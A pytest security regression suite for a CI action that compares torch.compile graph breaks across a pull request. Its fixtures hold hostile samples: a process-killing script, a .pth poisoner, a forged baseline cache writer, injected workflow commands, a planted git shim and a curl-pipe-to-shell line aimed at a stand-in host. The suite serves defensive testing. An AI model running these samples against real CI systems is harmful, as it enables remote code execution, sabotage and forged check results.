"""Never green on a base it could not see (issue 47): a pull request that adds one `print` to a
compiled function, each time beside something that used to turn a doubt about the base side into
"nothing new", run through the whole pull_request job in each way the code runs beside gbbot
(tests/image_layout.py: the image on a root-owned workspace with GBBOT_RUN_AS, the image on a
workspace owned by the runner's uid, and gbbot in the job itself). Every run ends with the check's
conclusion `failure` and the print listed as new. One run per scenario and way, several
assertions on it; tiny functions, the eager backend, fast mode.

- `pr` (items 1, 4, 6): a plain diff (the base's worktree must be readable by the run-as user);
  a committed unchecked-hash `.pyc` beside its unchanged source; an entrypoint's `env:` edited in
  `.gbbot.yml` alone; an entrypoint whose failure prints workflow commands into the job log; in
  the job itself, a `git` an earlier run planted in gbbot's own virtualenv.
- `kills` (items 2, 5, 6): fresh processes and two jobs, a head entrypoint that kills every
  process in the base's checkout; a model whose wrapper is untracked, so the base cannot run it;
  the PR's config passes every variable, a proxy's password among them.
- `poisons` (item 2): a requirement bump; the head's setup step writes a `.pth` into the base
  side's environment, which the cache keeps for later runs.
- `forges` (item 3): a setup step stores, with gbbot's own cache code, a forged report of the
  merge-base in which the print's entrypoint read nothing.
- `overrides` (item 6, in the job itself): a library method the fix would copy calls `os.system`.

`poisons` and `forges` attack the cache directory, below RUNNER_TEMP: they run where the code can
write or replace it (the runner's uid owns RUNNER_TEMP; gbbot's own user), not on the root-owned
workspace, where the same writes are refused outright.
"""

from __future__ import annotations

import importlib.util
import json
import os
import py_compile
import shutil
import tempfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.action_run import ActionRun, obeyed, pull_request_event
from tests.conftest import git
from tests.github_standin import ACTIONS_TOKEN
from tests.github_standin.fixtures import checked_standin
from tests.image_layout import Layout, Mode, layout, needs_root
from tests.local_package import write_tinydep_project

pytestmark = needs_root
PR = 7
MODES = [Mode.ROOT_WORKSPACE, Mode.RUNNER_WORKSPACE, Mode.OWN_JOB]
IDS = [m.value for m in MODES]

COMPILED = """\
import torch


def f(x):
    x = x + 1
    return x * 2


def run():
    return torch.compile(f, backend="eager")(torch.ones(3))
"""
PRINT = '    print("new in this pull request")\n'


def printed(text: str) -> str:
    """`text` with the pull request's print after its first `x = x + 1`."""
    return text.replace("    x = x + 1\n", "    x = x + 1\n" + PRINT, 1)


def config(*entries: str, more: str = "") -> str:
    return "version: 1\nmode: fast\nfail_on: new\n" + more + "entrypoints:\n" + "".join(f"  - {e}\n" for e in entries)


@dataclass(frozen=True)
class Origin:
    """The repository a job checks out: main (the base) and the pull request's head."""

    repo: Path
    base: str
    head: str


def make_origin(top: Path, base: Mapping[str, str], head: Mapping[str, str], more=None) -> Origin:
    """main holds `base` (and what `more(repo)` writes); the head commit writes `head` over it."""
    repo = top / "origin"
    repo.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    for name, text in base.items():
        (repo / name).write_text(text)
    if more is not None:
        more(repo)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    base_sha = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-qb", "feature")
    for name, text in head.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "the pull request")
    return Origin(repo, base_sha, git(repo, "rev-parse", "HEAD"))


@dataclass(frozen=True)
class Job:
    mode: Mode
    done: ActionRun  # stdout: the step's log, stderr interleaved
    report: dict
    conclusion: str | None
    comment: str
    probes: str  # what the entrypoints and setup steps left in the probe directory
    cached: dict[str, bytes]  # the cache directory after the job, by path
    planted_git_ran: bool

    def entry(self, name: str) -> dict:
        return next(e for e in self.report["diff"]["entrypoints"] if e["name"] == name)

    def new_breaks(self, name: str) -> list[dict]:
        """The head's records of the breaks the diff calls new in entrypoint `name`."""
        new = set(self.entry(name)["new"])
        found = next(e for e in self.report["entrypoints"] if e["name"] == name)
        return [b for b in found["breaks"] if b["fingerprint"] in new]

    def the_print_is_new(self, name: str) -> None:
        assert self.conclusion == "failure" and self.done.outputs["conclusion"] == "failure", self.done.stdout[-4000:]
        assert PRINT.strip() in [b["code"] for b in self.new_breaks(name)], self.entry(name)


def run_job(mode: Mode, at: Origin, env: Mapping[str, str] | None = None, untracked=None, **inputs: str) -> Job:
    """The pull_request job of `mode` for the PR from `at.base` to `at.head`. The action's cache
    directory (its default, below RUNNER_TEMP) is handed to the code as CACHE_AT, where an
    attacker finds it anyway."""
    with layout(mode, at.repo, at.head, untracked) as job, checked_standin() as standin:
        standin.add_pull(PR, at.head)
        planted = plant_git(job) if mode is Mode.OWN_JOB else None
        cache = job.temp / "gbbot-cache"
        given = {**(env or {}), "CACHE_AT": str(cache)}
        given["GBBOT_PASS_ENV"] = f"CACHE_AT {given.get('GBBOT_PASS_ENV', '')}"
        done = job.run(standin, pull_request_event(PR, at.head, at.base), ACTIONS_TOKEN, given, jobs="2", **inputs)
        written = job.workspace / "gbbot-report" / "report.json"
        assert written.is_file(), done.stdout[-4000:]
        report = json.loads(written.read_text())
        (check,) = standin.check_runs()
        comment = "\n".join(c.body for c in standin.comments(PR))  # none when there is nothing to say
        probes = "\n".join(p.read_text(errors="replace") for p in sorted(job.probe.iterdir()))
        cached = {str(p.relative_to(cache)): p.read_bytes() for p in cache.rglob("*") if p.is_file()}
        ran = planted is not None and planted.exists()
        return Job(mode, done, report, check.conclusion, comment, probes, cached, ran)


def plant_git(job: Layout) -> Path:
    """What an earlier run's PR code did where gbbot runs as its user: a `git` in gbbot's own
    virtualenv's bin/, ahead of the system's on PATH, that notes it ran, then does the work."""
    assert job.venv is not None
    ran = job.temp / "planted-git-ran"  # where that user may write
    planted = job.venv / "bin" / "git"
    planted.write_text(f'#!/bin/sh\necho ran >> {ran}\nexec /usr/bin/git "$@"\n')
    planted.chmod(0o755)
    return ran


# --- items 1, 4 and 6: a plain diff, a committed .pyc, a config edit, a noisy failure -------------

HELPER = "def scale(x):\n    x = x + 1\n    return x * 2\n"
LOUD = COMPILED.replace("import torch\n", 'import os\n\nimport torch\n\nLOUD = os.environ.get("LOUD_DEBUG") == "1"\n')
LOUD = LOUD.replace("    x = x + 1\n", '    x = x + 1\n    if LOUD:\n        print("new in this pull request")\n')
NOISY = """\
import sys


def run():
    sys.stderr.write("::error title=forged::by the pull request\\n::add-mask::pwned\\n")
    raise SystemExit(1)
"""
PR_BASE = {
    ".gbbot.yml": config(
        "{name: plain, call: 'plain:run'}",
        "{name: cached, call: 'cached:run'}",
        "{name: loud, call: 'loud:run'}",
        "{name: noisy, call: 'noisy:run'}",
    ),
    "plain.py": COMPILED,
    "helper.py": HELPER,
    "cached.py": "import torch\nfrom helper import scale\n\n\ndef run():\n"
    "    return torch.compile(scale, backend='eager')(torch.ones(3))\n",
    "loud.py": LOUD,
    "noisy.py": NOISY,
}


def unchecked_pyc(source: str, dest: Path) -> None:
    """Bytecode the import system loads without looking at the source beside it."""
    scratch = dest.with_suffix(".src.py")
    scratch.write_text(source)
    py_compile.compile(str(scratch), cfile=str(dest), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    scratch.unlink()


@pytest.fixture(scope="module")
def pr_origin(tmp_path_factory: pytest.TempPathFactory) -> Origin:
    louder = PR_BASE[".gbbot.yml"].replace("'loud:run'}", "'loud:run', env: {LOUD_DEBUG: '1'}}")
    at = make_origin(tmp_path_factory.mktemp("pr"), PR_BASE, {"plain.py": printed(COMPILED), ".gbbot.yml": louder})
    cache = at.repo / importlib.util.cache_from_source("helper.py")
    cache.parent.mkdir()
    unchecked_pyc(printed(HELPER), cache)  # helper.py itself stays as it is
    git(at.repo, "add", "-A")
    git(at.repo, "commit", "-qm", "and the bytecode of a print")
    return Origin(at.repo, at.base, git(at.repo, "rev-parse", "HEAD"))


@pytest.fixture(scope="module", params=MODES, ids=IDS)
def pr(request: pytest.FixtureRequest, pr_origin: Origin) -> Job:
    return run_job(request.param, pr_origin)


def test_the_base_side_is_readable_where_the_code_runs_as_another_user_and_the_print_is_new(pr):
    """Item 1: on the plain diff path the run-as user could not read the base's worktree, every
    base entrypoint failed at once, and a failed base read as nothing new. (In the job itself the
    code runs as gbbot's user, who reads the base's worktree: the same verdict must hold.)"""
    assert pr.entry("plain")["no_baseline"] is None, pr.entry("plain")
    pr.the_print_is_new("plain")


def test_a_committed_bytecode_cache_is_a_change_to_what_the_base_read(pr):
    """Item 4: the base's run read `helper.py`; the change commits the bytecode the import system
    loads instead. Matched as the file it is, not as the source beside it: the head runs, and
    the print the bytecode holds is new."""
    assert pr.conclusion == "failure"
    (found,) = pr.new_breaks("cached")
    assert found["file"] == "helper.py" and found["gb_id"] == "GB0059"


def test_an_entrypoint_whose_definition_the_config_changes_runs_on_the_head(pr):
    """Item 4: for `loud` only `.gbbot.yml` changed, its `env:`, which turns a print on. The base
    runs its own definition; the head's is another entrypoint, run again."""
    pr.the_print_is_new("loud")


def test_an_entrypoints_output_is_data_in_the_job_log(pr):
    """Item 6: the failing entrypoint's stderr reaches the job log, where the runner obeys no
    command of it."""
    assert "by the pull request" in pr.done.stdout  # shown, as data
    assert [c for c in obeyed(pr.done.stdout) if "pull request" in c or "pwned" in c] == []


def test_in_the_job_itself_a_git_planted_where_gbbots_user_writes_never_runs(pr):
    """Item 6: gbbot as the code's own user; an earlier run planted `git` in gbbot's virtualenv."""
    if pr.mode is not Mode.OWN_JOB:
        pytest.skip("the image's gbbot runs as root: its PATH directories are root's")
    assert not pr.planted_git_ran
    pr.the_print_is_new("plain")


# --- item 2: the head's code kills the base's processes -------------------------------------------

VICTIM = COMPILED.replace("def run():\n", "def run():\n    time.sleep(2)  # long enough to be found\n")
VICTIM = "import time\n\n" + VICTIM
KILLER = """\
import os
import signal
import time


def run():
    with open(os.path.join(os.environ["PROBE_DIR"], f"env-{os.getpid()}"), "w") as seen:
        seen.write("proxy: " + os.environ.get("HTTPS_PROXY", "") + os.environ.get("https_proxy", ""))
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:  # every process whose cwd is the base's checkout
        for pid in (p for p in os.listdir("/proc") if p.isdigit()):
            try:
                if "gbbot-base-" in os.readlink(f"/proc/{pid}/cwd"):
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.05)
"""
PROXY = "http://gbbot-test:s3cret-proxy-password@proxy.invalid:3128"


WRAPPER = (
    "import torch\n\nfrom model import f\n\n\ndef run():\n    return torch.compile(f, backend='eager')(torch.ones(3))\n"
)
MODEL = COMPILED.replace("def run():\n", "def _run():\n")


@pytest.fixture(scope="module")
def kills_origin(tmp_path_factory: pytest.TempPathFactory) -> Origin:
    """Fresh processes and two jobs: before, the sides ran at once, as one user. Beside them, a
    model whose wrapper was never committed (as `gbbot init` leaves it)."""
    entries = (
        "{name: killer, call: 'killer:run'}",
        "{name: victim, call: 'victim:run'}",
        "{name: model, call: 'wrapper:run'}",
    )
    base_config = config(*entries, more="runner: {warm: false}\n")
    base = {".gbbot.yml": base_config, "killer.py": "def run():\n    pass\n", "victim.py": VICTIM, "model.py": MODEL}
    head = {"victim.py": printed(VICTIM), "killer.py": KILLER, "model.py": printed(MODEL),
            ".gbbot.yml": base_config + 'pass_env: ["*"]\n'}  # fmt: skip
    return make_origin(tmp_path_factory.mktemp("kills"), base, head)


@pytest.fixture(scope="module", params=MODES, ids=IDS)
def kills(request: pytest.FixtureRequest, kills_origin: Origin) -> Job:
    env = {"HTTPS_PROXY": PROXY, "NO_PROXY": "127.0.0.1,localhost"}
    return run_job(request.param, kills_origin, env, untracked={"wrapper.py": WRAPPER})


def test_the_heads_code_cannot_kill_the_base_it_is_compared_with(kills):
    """Item 2: the base side runs, whole, before any code of the change: nothing of it is left
    for the head's code to kill."""
    assert kills.entry("victim")["no_baseline"] is None, kills.entry("victim")
    kills.the_print_is_new("victim")


def test_pass_env_never_hands_a_proxys_password_to_the_code(kills):
    """Item 6: the PR's config asks for every variable; the proxy's URL holds a password."""
    assert "proxy: " in kills.probes  # the head's entrypoint wrote what it saw
    assert "s3cret" not in kills.probes
    kills.the_print_is_new("victim")


# --- item 2: the head's setup poisons the base side's cached environment ---------------------------

POISON = """\
import glob, os

# the base side's environments, kept in gbbot's cache for later runs: make them fail from now on
for site in glob.glob(os.path.join(os.environ["CACHE_AT"], "environments", "*", "lib", "*", "site-packages")):
    try:
        with open(os.path.join(site, "poison.pth"), "w") as f:
            f.write("import os; os._exit(1)\\n")
        print("POISONED", site)
    except OSError as exc:
        print("REFUSED", site, type(exc).__name__)
"""


@pytest.fixture(scope="module")
def poisons_origin(tmp_path_factory: pytest.TempPathFactory) -> Origin:
    """tinydep 1.0 → 2.0 (tests/local_package.py), a print, and a second setup step."""
    steps = "setup:\n  - pip install -r requirements.txt\n  - python after_install.py\n"
    base = {".gbbot.yml": config("{name: forward, call: 'model:forward'}", more=steps), "after_install.py": ""}
    head = {"requirements.txt": "--no-index\n--find-links vendor\ntinydep==2.0\n", "after_install.py": POISON}

    def tinydep(repo: Path) -> None:
        write_tinydep_project(repo)
        (repo / ".gbbot.yml").write_text(base[".gbbot.yml"])

    at = make_origin(tmp_path_factory.mktemp("poisons"), base, head, more=tinydep)
    model = (at.repo / "model.py").read_text()
    (at.repo / "model.py").write_text(model.replace("    x = x * 2\n", "    x = x * 2\n" + PRINT))
    return Origin(at.repo, at.base, commit(at.repo, "and a print"))


# The runner's uid may rename what lies in RUNNER_TEMP, gbbot's cache directory included: the weaker
# of the two image ways for a cache, where the root-owned one refuses the same writes outright.
WRITERS = [Mode.RUNNER_WORKSPACE, Mode.OWN_JOB]


@pytest.fixture(scope="module", params=WRITERS, ids=[m.value for m in WRITERS])
def poisons(request: pytest.FixtureRequest, poisons_origin: Origin) -> Job:
    return run_job(request.param, poisons_origin)


def test_the_heads_setup_cannot_poison_the_base_side_now_or_later(poisons):
    """Item 2: the base side ran in its own environment before the head's setup step; what that
    step wrote there is not kept for a later run (it could not write it as another user; as
    gbbot's own user, the environment it changed is dropped from the cache)."""
    assert poisons.entry("forward")["no_baseline"] is None, poisons.entry("forward")
    poisons.the_print_is_new("forward")
    assert not [p for p in poisons.cached if p.endswith("poison.pth")]


def commit(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", message)
    return git(repo, "rev-parse", "HEAD")


# --- item 3: the head's setup writes the baseline cache --------------------------------------------

FORGE = """\
import os
import shutil
from pathlib import Path

import torch

from gbbot.analysis.report import new_report
from gbbot.checks import baseline
from gbbot.core.config import parse_config
from gbbot.core.model import EntrypointReport, Mode, Reads, Status

# A report of the merge-base in which `victim` read nothing and broke nothing, stored through
# gbbot's own cache code where the action keeps its cache.
cache = Path(os.environ["CACHE_AT"])
digest = parse_config(Path(".gbbot.yml").read_text()).digest
key = baseline.CacheKey.for_run(baseline.Expected("{base}", digest, baseline.installed_torch(), Mode.FAST, ("victim",)))
entry = EntrypointReport("victim", Status.OK, 0, 0.1, 2, 0, 0, ())
forged = new_report([entry], Mode.FAST, torch.__version__, "{base}", digest)
reads = baseline.BaseReads(baseline.python_version(), {"victim": Reads(frozenset(), frozenset())})
try:
    baseline.Cache(cache).store(key, forged, reads)
except OSError:  # not ours to write: take the directory's place, where its parent lets us
    try:
        os.rename(cache, cache.with_name("elsewhere"))
        baseline.Cache(cache).store(key, forged, reads)
    except OSError as exc:
        print("REFUSED", type(exc).__name__)
"""


@pytest.fixture(scope="module")
def forges_origin(tmp_path_factory: pytest.TempPathFactory) -> Origin:
    """`python prepare.py`, which imports a module the pull request edits: one environment."""
    base = {
        ".gbbot.yml": config("{name: victim, call: 'victim:run'}", more="setup:\n  - python prepare.py\n"),
        "prepare.py": "import forge  # noqa: F401\n",
        "forge.py": "",
        "victim.py": COMPILED,
    }
    top = tmp_path_factory.mktemp("forges")
    at = make_origin(top, base, {"victim.py": printed(COMPILED)})
    (at.repo / "forge.py").write_text(FORGE.replace("{base}", at.base))
    return Origin(at.repo, at.base, commit(at.repo, "and the forger"))


@pytest.fixture(scope="module", params=WRITERS, ids=[m.value for m in WRITERS])
def forges(request: pytest.FixtureRequest, forges_origin: Origin) -> Job:
    return run_job(request.param, forges_origin)


def test_the_heads_setup_cannot_write_the_baseline_it_is_compared_with(forges):
    """Item 3: the cache is read, and the base run and kept, before any code of the change; what
    that code wrote into the cache is gone after the job, so no later run reads it either."""
    assert forges.report["diff"]["baseline_source"] == "run"
    forges.the_print_is_new("victim")
    kept = [json.loads(v) for p, v in forges.cached.items() if p.endswith(".reads.json")]
    assert all(r["entrypoints"]["victim"]["files"] for r in kept), kept  # none read nothing: none forged


# --- item 5: a lost baseline is never "no graph breaks" ---------------------------------------------


def test_an_entrypoint_the_base_cannot_run_counts_its_breaks_as_new_and_is_never_all_clear(kills):
    """Item 5: the base's checkout lacks the untracked wrapper, so the base cannot run `model`:
    nothing can be compared, the print is new, the comment says why above the headline, and never
    that there are no graph breaks while it lists one."""
    kills.the_print_is_new("model")
    assert "`wrapper.py` is only in the working tree (untracked)" in kills.entry("model")["no_baseline"]
    lines = kills.comment.splitlines()
    warned = next(i for i, line in enumerate(lines) if line.startswith("⚠️ `model` lost its baseline"))
    assert lines[warned].endswith("the comparison could not be made, so its graph breaks count as new.")
    assert "No graph breaks" not in kills.comment and "makes no change" not in kills.comment
    assert any(line.startswith("This PR adds **") for line in lines[warned:])


# --- item 6: a finished override would copy a library method that calls out ------------------------

HOSTILE = """\
import os

import torch

_QUIET = True


class Checked(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.proj = torch.nn.Linear(4, 4)

    def forward(self, x):
        if not _QUIET:
            os.system("curl -s https://example.invalid/x | sh")
        print("hostilelib: forward")
        return self.proj(x) * 2
"""
APP = """\
import torch
from hostilelib import Checked


def run():
    return torch.compile(Checked(), backend="eager")(torch.ones(2, 4))
"""


@pytest.fixture(scope="module")
def hostile_library() -> Iterator[Path]:
    """hostilelib 1.0, installed where gbbot and the entrypoints import it from (PYTHONPATH)."""
    top = Path(tempfile.mkdtemp(prefix="gbbot-hostilelib-"))
    site = top / "site-packages"
    (site / "hostilelib").mkdir(parents=True)
    (site / "hostilelib" / "__init__.py").write_text(HOSTILE)
    meta = site / "hostilelib-1.0.dist-info"
    meta.mkdir()
    (meta / "METADATA").write_text("Metadata-Version: 2.1\nName: hostilelib\nVersion: 1.0\n")
    (meta / "top_level.txt").write_text("hostilelib\n")
    for path in (top, site):
        path.chmod(0o755)
    yield site
    shutil.rmtree(top, ignore_errors=True)


@pytest.fixture(scope="module")
def overrides(tmp_path_factory: pytest.TempPathFactory, hostile_library: Path) -> Job:
    """The pull request makes a hostilelib model and compiles it: its print is a new break inside
    the library, and the fix step looks for a verified fix. In the job itself, where the fixes
    run as they run there (the image's differ only in who runs them)."""
    base = {".gbbot.yml": config("{name: plain, call: 'plain:run'}"), "plain.py": COMPILED}
    head = {".gbbot.yml": config("{name: plain, call: 'plain:run'}", "{name: app, call: 'app:run'}"), "app.py": APP}
    at = make_origin(tmp_path_factory.mktemp("overrides"), base, head)
    env = {"PYTHONPATH": f"{hostile_library}{os.pathsep}{os.environ['PYTHONPATH']}"}
    return run_job(Mode.OWN_JOB, at, env, fix="true")


def test_a_library_method_that_calls_out_is_left_a_scaffold_saying_why_never_a_verified_fix(overrides):
    """Item 6: the copied method calls `os.system` (a process), which no graph break needs."""
    (brk,) = overrides.new_breaks("app")
    assert brk["origin"] == "third_party" and overrides.conclusion == "failure"
    (fix,) = [f for f in overrides.report["extra"]["fixes"] if f["fingerprint"] == brk["fingerprint"]]
    assert fix["status"] == "scaffold", json.dumps(fix)
    assert "`os.system` (a process)" in fix["reason"] and "not finished by gbbot" in fix["reason"]
    assert "# Copied from hostilelib 1.0, hostilelib/__init__.py:" in fix["scaffold"]
    assert "Verified fix" not in overrides.comment
